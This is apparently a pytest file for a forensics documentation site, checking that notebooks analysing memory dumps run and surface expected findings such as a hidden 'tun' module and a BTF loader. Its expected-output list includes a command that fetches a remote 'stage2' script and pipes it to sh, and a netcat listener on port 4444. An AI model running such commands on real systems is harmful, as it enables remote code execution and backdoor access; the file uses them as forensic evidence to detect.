# SPDX-License-Identifier: LicenseRef-VSL-1.0
"""The notebooks run from top to bottom on real dumps, and show what they tell of."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from docsite import notebooks
from dumpmaker.cache import Dump

SHOWN = {
    "first-look": [
        "exact",
        "curl -s http://203.0.113.7/stage2 | sh",
        "nc -ll -p 4444",
        "/bin/btf-loader",
        "case.duckdb",
    ],
    "hidden-module": ["tun is known to sysfs, loaded BTF, and not to lsmod.", "unchecked", "tun_chr_open"],
    "two-moments": ["same boot:  True", "btf-loader", "loaded since: ", "system calls compared"],
    "by-hand": ["struct list_head *next;", "Layout of struct cred", "True", "no process has other rights"],
    "fleet": ["web4", "tun", "unchecked", "4444", "nc"],
}
"""What must be among a notebook's outputs."""


def outputs(notebook: Any) -> str:
    """All that a notebook shows, as plain text; errors and warnings too."""
    found = []
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            found.append(output.get("text") or output.get("data", {}).get("text/plain", ""))
    return "\n".join(found)


def test_each_has_its_story() -> None:
    assert {path.stem for path in notebooks.paths()} == SHOWN.keys()


@pytest.mark.parametrize("path", notebooks.paths(), ids=lambda path: path.stem)
def test_outputs_are_stripped(path: Path) -> None:
    for cell in notebooks.read(path).cells:
        assert not cell.get("outputs") and not cell.get("execution_count"), "strip the outputs first"
        assert not cell.metadata


@pytest.mark.parametrize("path", notebooks.paths(), ids=lambda path: path.stem)
def test_it_runs_and_shows_what_it_tells_of(path: Path, dump: Callable[[str], Dump]) -> None:
    done = notebooks.executed(path)
    shown = outputs(done)
    for text in SHOWN[path.stem]:
        assert text in shown
    assert "Warning" not in shown
    page = notebooks.as_page(done)
    assert page.count("```python") == sum(cell.cell_type == "code" for cell in done.cells)


def test_a_page_shows_outputs_and_no_markup_of_theirs() -> None:
    from nbformat import v4

    shown = [
        v4.new_output("stream", name="stdout", text="<b>\n\nsecond"),
        v4.new_output("stream", name="stderr", text="progress"),
        v4.new_output("display_data", {"text/html": "<p>\n\nrows</p>", "text/plain": "rows"}),
    ]
    page = notebooks.as_page(v4.new_notebook(cells=[v4.new_code_cell("1", outputs=shown)]))
    assert "&lt;b&gt;" in page and "<p>\nrows</p>" in page and "progress" not in page
